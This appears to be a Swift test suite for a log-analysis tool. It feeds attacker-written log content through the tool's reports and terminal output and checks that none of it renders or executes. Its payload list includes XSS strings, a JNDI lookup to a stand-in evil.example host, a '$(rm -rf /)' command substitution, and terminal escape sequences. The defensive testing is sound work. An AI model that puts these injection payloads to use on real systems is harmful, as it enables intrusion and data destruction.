import Foundation
import Testing
@testable import OriginLens

/// Log content is written by attackers (hosts, paths, user agents) and by crashing programs.
/// Hostile text goes through the whole pipeline — files on disk, `Analyzer.run` / `Weekly.run`,
/// the default templates — into the hosts, paths and colos tables, the origin IPs, the
/// timeline, the evidence, the inputs table and the problem list; cmark-gfm (the real GFM
/// renderer) then shows that no raw HTML, link or image from the logs survives, that no table
/// row gains or loses a cell, and that nothing of it is expanded as a template tag. Terminal
/// output (stderr, `formats`) carries no escape sequence.
@Suite struct HostilePayloadTests {
    /// The escaping layer's list (MarkdownSafetyTests) and more of the same.
    static let payloads: [String] = hostilePayloads + [
        "| injected | row |\n|---|---|\n| x | y |",
        "</td></tr></table><table><tr><td>",
        "<!-- unclosed comment",
        "<iframe src=//evil.example></iframe><svg onload=alert(1)>",
        "javascript:alert(1) <a href=\"javascript:alert(1)\">x</a>",
        "[ref]: http://evil.example/ref \"title\"",
        "<https://evil.example/autolink> <root@evil.example>",
        "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
        "``` ```` ````` fence runs `inline` ``double``",
        "line one\r\nline two\rline three\u{0}nul\u{7F}del\u{9B}31mcsi",
        "\u{2066}isolate\u{2069} \u{200F}rlm \u{061C}alm \u{202D}lro",
        "{{#incidents}}{{/incidents}}{{> partial}}{{! comment }}{{=<% %>=}}",
        "${jndi:ldap://evil.example/a} $(rm -rf /) `id`",
        String(repeating: "`|<>[]()!*_~#", count: 400),
    ]

    /// Edge log: 30 requests a minute from 10:00 to 10:40, all 521 from 10:20 to 10:30; the
    /// 521s carry the payloads as host, path (URI), colo and origin IP.
    static func edgeLog() -> String {
        let p = payloads
        var out = ""
        var n = 0
        for m in 0..<40 {
            for k in 0..<30 {
                let t = scenarioT0 + Int64(m * 60 + k * 2)
                if (20..<30).contains(m) {
                    let a = p[n % p.count], b = p[(n + 3) % p.count], c = p[(n + 7) % p.count]
                    let ip = k % 10 == 0 ? p[(n + 11) % p.count] : "198.51.100.20"
                    out += logpushLine(t, status: 521, host: a, uri: "/" + b, colo: c, originIP: ip) + "\n"
                    n += 1
                } else {
                    out += logpushLine(t, status: 200) + "\n"
                }
            }
        }
        return out
    }

    /// nginx error log: one config error per payload in the minutes before the incident (they
    /// become the evidence and the timeline), with the payload inside the message.
    static func originLog() -> String {
        var out = ""
        for (i, p) in payloads.enumerated() {
            // One line each: the payload's line breaks become spaces in a log line.
            let oneLine = p.replacingOccurrences(of: "\n", with: " ").replacingOccurrences(of: "\r", with: " ")
            let s = 19 * 60 + 20 + i
            out += "2024/01/15 10:\(String(format: "%02d", s / 60)):\(String(format: "%02d", s % 60)) [emerg] 3120#3120: unknown directive \"\(oneLine)\" in /etc/nginx/sites-enabled/default:\(i + 1)\n"
        }
        return out
    }

    /// Writes the hostile inputs; file names are hostile too (a newline, a pipe, tags).
    static func inputs(in dir: TempDir) -> [String] {
        let edge = dir.write("edge/logpush-20240115.json", edgeLog())
        let origin = dir.write("origin/nginx/error.log", originLog())
        let weirdName = dir.write("origin/we|rd `<img src=x onerror=alert(1)>`\n[a](http:evil.example).log", originLog())
        // An unknown format whose first line (quoted in the problem list) is hostile.
        let junk = dir.write("origin/junk.txt", payloads.joined(separator: "\n") + "\n")
        return [edge, origin, weirdName, junk]
    }

    /// Tag names that the default templates produce; anything else came from the logs.
    static let allowedTags: Set<String> = [
        "h1", "h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "code", "pre",
        "strong", "em", "input", "br",
    ]

    /// Checks rendered Markdown with cmark-gfm; returns the HTML.
    @discardableResult
    static func expectSafe(_ md: String, sourceLocation: SourceLocation = #_sourceLocation) -> String? {
        // Raw text: no terminal escapes or direction overrides at all.
        for bad in ["\u{1B}", "\u{9B}", "\u{202E}", "\u{202D}", "\u{2066}", "\u{200F}", "\u{061C}", "\u{0}", "\r"] {
            #expect(!md.contains(bad), "Markdown holds \(bad.unicodeScalars.first!.value)", sourceLocation: sourceLocation)
        }
        guard let html = cmarkGFM(md) else { Issue.record(Comment(rawValue: cmarkMissing), sourceLocation: sourceLocation); return nil }
        // Only the template's own tags.
        var tags = Set<String>()
        var i = html.startIndex
        while let lt = html[i...].firstIndex(of: "<") {
            var j = html.index(after: lt)
            if j < html.endIndex, html[j] == "/" { j = html.index(after: j) }
            var name = ""
            while j < html.endIndex, html[j].isLetter || html[j].isNumber { name.append(html[j]); j = html.index(after: j) }
            tags.insert(name.lowercased())
            i = html.index(after: lt)
        }
        #expect(tags.subtracting(allowedTags).isEmpty, "tags from the logs: \(tags.subtracting(allowedTags).sorted())", sourceLocation: sourceLocation)
        // (Attribute-like text such as `onerror=` may stay as plain text: without a tag it is inert.)
        for bad in ["<script", "<img", "<a ", "<iframe", "<svg", "<!--", "<input type=\"text"] {
            #expect(!html.contains(bad), "HTML holds \(bad)", sourceLocation: sourceLocation)
        }
        // Emphasis from the logs' `*bold* _em_` never applies.
        #expect(!html.contains("<em>bold</em>") && !html.contains("<em>em</em>"), sourceLocation: sourceLocation)
        // Every table keeps its shape: each row has as many cells as the header.
        for table in html.components(separatedBy: "<table>").dropFirst() {
            let body = table.components(separatedBy: "</table>")[0]
            let rows = body.components(separatedBy: "<tr>").dropFirst()
            guard let header = rows.first else { continue }
            let width = header.components(separatedBy: "<th").count - 1
            #expect(width > 0, sourceLocation: sourceLocation)
            for r in rows.dropFirst() {
                #expect(r.components(separatedBy: "<td").count - 1 == width, "row \(r.prefix(200))", sourceLocation: sourceLocation)
            }
        }
        return html
    }

    @Test func analyzeReportStaysInert() throws {
        let dir = TempDir()
        let paths = Self.inputs(in: dir)
        let (r, data) = Analyzer.run(paths: paths, scan: ScanOptions(), options: AnalyzeOptions())
        // The payloads did land in the report's tables, timeline and evidence.
        let inc = try #require(r.incidents.first)
        #expect(r.incidentCount == 1)
        #expect(inc.hosts.count >= 10)
        #expect(inc.paths.count >= 10)
        #expect(inc.colos.count >= 10)
        #expect(inc.scope.originIPs.count > 1)
        #expect(inc.evidence.count == 12)
        #expect(inc.evidenceNotShown > 0)
        #expect(inc.timeline.contains { $0.what.contains("<script>alert(1)</script>") })
        let texts = inc.evidence.map(\.text) + inc.timeline.map(\.what) + inc.hosts.map(\.key) + inc.paths.map(\.key)
        #expect(texts.contains { $0.contains("{{title}}") })
        #expect(texts.contains { $0.contains("\u{202E}") })
        #expect(inc.hosts.contains { $0.key.contains("\u{1B}[31m") })
        #expect(inc.paths.contains { $0.key.contains("\n") })
        #expect(r.inputs.contains { $0.path.contains("\n[a](http:evil.example)") })
        #expect(r.problems.contains { $0.contains("junk.txt: format not recognised") && $0.contains("```") })
        #expect(data.files.count == 4)

        let md = try TemplateRenderer.render(r, template: TemplateRenderer.defaultTemplate("postmortem.md.mustache"))
        let html = try #require(Self.expectSafe(md))
        // Tag-like text from the logs shows as text; template tags from the logs stay text.
        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        #expect(html.contains("{{title}}"))
        #expect(html.contains("{{#incidents}}"))
        #expect(!md.contains(r.title + "}}"))
        // Impact, hosts, colos, paths, timeline, inputs.
        #expect(html.components(separatedBy: "<table>").count - 1 == 6)
        // One <pre> per evidence line plus the chart: no fence was broken open.
        #expect(html.components(separatedBy: "<pre>").count - 1 == inc.evidence.count + 1)
        #expect(html.components(separatedBy: "<h1>").count - 1 == 1)
        #expect(html.components(separatedBy: "<h2>").count - 1 == 2)

        // JSON keeps the text as data (escaped by the encoder, nothing lost).
        let json = Analyzer.json(r)
        let obj = try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any]
        #expect(obj != nil)
        // Printed on a terminal it drives nothing: controls and direction overrides are
        // \u escapes, which decode to the original text.
        for bad in ["\u{1B}", "\u{9B}", "\u{202E}", "\u{2066}", "\u{0}"] { #expect(!json.contains(bad)) }
        let decoded = try JSONDecoder().decode(PostmortemReport.self, from: Data(json.utf8))
        #expect(json.contains("\\u202e"))
        #expect(decoded.incidents.first?.hosts.map(\.key) == inc.hosts.map(\.key))
        #expect(decoded.incidents.first?.evidence.map(\.text) == inc.evidence.map(\.text))
        #expect(Analyzer.json(decoded) == json)
    }

    @Test func weeklyReportStaysInert() throws {
        let dir = TempDir()
        let paths = Self.inputs(in: dir)
        let day = scenarioT0 - 10 * 3600
        let run = Weekly.run(paths: paths, scan: ScanOptions(), options: WeeklyOptions(startUs: day * 1_000_000, endUs: (day + 86_400) * 1_000_000), historyPath: nil)
        #expect(run.report.incidentCount == 1)
        #expect(run.report.topHosts.count >= 10)
        #expect(run.report.topColos.count >= 10)
        #expect(run.report.dataQuality.problems.contains { $0.contains("junk.txt") })
        let md = try TemplateRenderer.render(run.report, template: TemplateRenderer.defaultTemplate("weekly.md.mustache"))
        let html = try #require(Self.expectSafe(md))
        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        // Its postmortems (`weekly --postmortems DIR`) too.
        let pm = Weekly.postmortem(for: run.report.incidents[0].id, data: run.data, options: WeeklyOptions(startUs: day * 1_000_000, endUs: (day + 86_400) * 1_000_000))
        Self.expectSafe(try TemplateRenderer.render(pm, template: TemplateRenderer.defaultTemplate("postmortem.md.mustache")))
    }

    @Test func terminalOutputCarriesNoEscapes() throws {
        let dir = TempDir()
        let paths = Self.inputs(in: dir)
        // `formats`: file names and samples are cleaned in the table and its warnings, and
        // escaped in its JSON.
        let formats = FormatsReport.run(paths: paths, options: ScanOptions())
        for bad in ["\u{1B}", "\u{9B}", "\u{202E}", "\u{2066}"] { #expect(!formats.json().contains(bad)) }
        let table = formats.table()
        for bad in ["\u{1B}", "\u{9B}", "\u{7}", "\u{202E}", "\u{2066}", "\u{0}", "\r"] {
            #expect(!table.contains(bad))
        }
        #expect(table.contains("junk.txt"))
        // The helper itself.
        #expect(TerminalText.clean("a\u{1B}[2J\u{1B}]0;pwned\u{07}b\u{1B}]8;;http://x\u{1B}\\c\u{9B}31md\u{202E}e\nf\tg") == "abcde f g")
        #expect(TerminalText.clean("plain text: 10:23:44 ✓ ünïcode") == "plain text: 10:23:44 ✓ ünïcode")

        // The command: stderr (warnings quote log lines) and stdout are clean.
        guard let res = runOriginlens(["formats"] + paths) else {
            Issue.record("the originlens binary is not built (swift build)")
            return
        }
        #expect(res.status == 0)
        let a = runOriginlens(["analyze"] + paths)
        #expect(a?.status == 0)
        for out in [res.out, res.err, a?.out ?? "", a?.err ?? ""] {
            for bad in ["\u{1B}", "\u{9B}", "\u{202E}", "\u{2066}", "\u{0}"] { #expect(!out.contains(bad)) }
        }
        #expect(a?.err.contains("junk.txt: format not recognised") == true)
        // `events` prints NDJSON: control characters escaped, one object a line.
        let e = runOriginlens(["events"] + paths)
        #expect(e?.status == 0)
        #expect((e?.out ?? "").contains("\\u202e"))
        for line in (e?.out ?? "").split(separator: "\n") {
            for bad in ["\u{1B}", "\u{9B}", "\u{202E}", "\u{2066}"] { #expect(!line.contains(bad)) }
            #expect((try? JSONSerialization.jsonObject(with: Data(line.utf8))) != nil)
        }
    }
    /// The killed process's name comes from the logs and names the service in the cause, the
    /// summary and the action items: a name that GFM would turn into a link (`www.…`,
    /// `user@host`) or emphasis (`_x_`) stays text.
    @Test(arguments: ["www.evil-example.io", "root@evil.example", "_pwn_", "x_y_z:*a*", "evil.example.io"])
    func hostileProcessNameStaysInert(_ name: String) throws {
        let dir = TempDir()
        let edge = dir.write("edge/logpush-20240115.json", scenarioEdgeLog())
        let origin = dir.write("origin/syslog", scenarioSyslog.replacingOccurrences(of: "nginx", with: name), mtime: scenarioMtime)
        let r = analyze([edge, origin]).report
        let inc = try #require(r.incidents.first)
        #expect(inc.cause.mechanism == "oom-kill")
        let safe = ActionItems.safeName(name)
        #expect(inc.actionItems.contains { $0.contains("`\(safe)`") }, "\(inc.actionItems)")
        let md = try TemplateRenderer.render(r, template: TemplateRenderer.defaultTemplate("postmortem.md.mustache"))
        let html = try #require(Self.expectSafe(md))
        #expect(!html.contains("<a "))
        #expect(!html.contains("<em>pwn</em>") && !html.contains("<em>y</em>") && !html.contains("<em>a</em>"))
    }
}
